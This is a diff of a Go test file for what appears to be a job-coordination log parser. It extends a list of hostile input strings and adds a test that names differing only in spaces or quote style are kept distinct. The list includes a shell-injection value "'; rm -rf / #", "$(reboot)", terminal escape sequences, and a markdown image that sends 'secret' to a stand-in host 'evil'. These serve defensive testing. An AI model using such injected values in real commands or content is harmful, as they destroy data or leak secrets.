@@ -23,7 +23,7 @@ var hostile = []string{
 	"\x1b]8;;http://evil\x07click\x1b]8;;\x07\x1b[2J terminal escapes",
 	"![x](http://evil/?q=secret)",
 	"{{F1}} {{F99}} D-1 J-1 B-1",
-	"'; rm -rf / #", "can't say what's up", `"quoted\`, "\u202egnirts", "\u200b", "why", "cost", "not", "now", "D-2", "2022-04-13", "8", "carbon by site", "job", `\`, "-", "$(reboot)", " ", "a b",
+	"'; rm -rf / #", "can't say what's up", `"quoted\`, "\u202egnirts", "\u200b", "why", "cost", "not", "now", "D-2", "2022-04-13", "8", "carbon by site", "job", `\`, "-", "$(reboot)", " ", "a b", "a  b", " a", "a\tb", "a\nb", "it’s", "“so called”", "5 $/MWh", "it's 5 o'clock",
 	strings.Repeat("a", 128),
 }
 
@@ -150,6 +150,24 @@ func TestALongTextIsNotRead(t *testing.T) {
 			if a.Kind != "unclear" || n > 1000 {
 				t.Errorf("%.8q, %s: %s %.100q with %v allocations; want it refused unread", text, name, a.Kind, a.Text, n)
 			}
+		}
+	}
+}
+
+// Two names that differ in their spaces, or in how a quote is written, are two.
+func TestNamesThatLookAlikeAreNotOne(t *testing.T) {
+	s := &stage{now: noon}
+	s.hello("oslo")
+	alike := []protocol.JobID{"a b", "a  b", " a b", "a\tb", "it's", "it’s"}
+	for i, id := range alike {
+		j := task(id, "vision")
+		j.Priority = i
+		s.say(protocol.Submitter, protocol.Coordinator, protocol.Submit{Job: j})
+	}
+	l := s.log()
+	for _, id := range alike {
+		if q, back := l.Parse(Query{Ask: "history", Job: id}.String()); back != nil || q.Job != id {
+			t.Errorf("%q is read as %q (%+v)", id, q.Job, back)
 		}
 	}
 }
